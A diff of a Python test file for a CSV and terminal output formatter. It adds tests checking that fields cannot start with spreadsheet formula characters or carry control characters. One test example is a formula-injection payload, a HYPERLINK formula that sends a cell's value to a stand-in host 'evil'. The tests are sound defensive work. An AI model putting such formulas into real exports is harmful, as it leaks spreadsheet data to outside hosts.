@@ -14,7 +14,7 @@ import yaml
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from genctl.base.printable import is_printable, printable
+from genctl.base.printable import is_printable, printable, printable_lines
 from genctl.cli import formats
 from genctl.cli.formats import shorten, width
 
@@ -71,15 +71,41 @@ def test_rows_written_one_by_one_are_one_document(rows: list[dict[str, object]])
 
 
 def test_csv_is_rfc_4180_with_nested_values_as_json() -> None:
-    writer = formats.CsvWriter(["a", "b"], raw=True)
-    text = writer.row({"a": 'say "hi", twice\n', "b": {"c": [1]}}, 0) + writer.row({"a": None, "b": True}, 1)
-    assert text == 'a,b\r\n"say ""hi"", twice\n","{""c"": [1]}"\r\n,true\r\n'
-    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ['say "hi", twice\n', '{"c": [1]}']
+    writer = formats.CsvWriter(["a", "b"])
+    text = writer.row({"a": 'say "hi", twice', "b": {"c": [1]}}, 0) + writer.row({"a": None, "b": True}, 1)
+    assert text == 'a,b\r\n"say ""hi"", twice","{""c"": [1]}"\r\n,true\r\n'
+    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ['say "hi", twice', '{"c": [1]}']
+
+
+@given(st.lists(texts, min_size=1, max_size=3))
+@example([HOSTILE, '=HYPERLINK("http://evil/?"&A1,"x")', " @SUM(1)"])
+def test_csv_steers_no_terminal_and_no_spreadsheet(found: list[str]) -> None:
+    """Names of columns too; each row is one line, whoever reads it."""
+    names = [f"{text}{number}" for number, text in enumerate(found)]
+    text = formats.CsvWriter(names).row(dict(zip(names, found, strict=True)), 0)
+    lines = text.split("\r\n")
+    assert len(lines) == 3
+    assert all(map(is_printable, lines))
+    for field in (field for row in csv.reader(io.StringIO(text, newline="")) for field in row):
+        assert not field.lstrip().startswith(tuple("=+-@\t\r＝＋－＠"))
+
+
+def test_csv_leaves_numbers_below_nought_alone() -> None:
+    assert formats.CsvWriter(["a"]).row({"a": -4}, 1) == "-4\r\n"
+
+
+@given(texts)
+@example(f"{HOSTILE}\n=1\r\nend")
+def test_laid_out_text_keeps_its_lines_and_nothing_else_that_steers(text: str) -> None:
+    shown = printable_lines(text)
+    assert is_printable(shown.replace("\r\n", "").replace("\n", ""))
+    assert shown.count("\n") == text.count("\n")
+    assert printable_lines(shown) == shown
 
 
 def test_csv_of_nothing_is_its_header() -> None:
-    assert formats.CsvWriter(["a", "b"], raw=True).end(0) == "a,b\r\n"
-    assert formats.CsvWriter([], raw=True).end(0) == ""
+    assert formats.CsvWriter(["a", "b"]).end(0) == "a,b\r\n"
+    assert formats.CsvWriter([]).end(0) == ""
 
 
 @given(
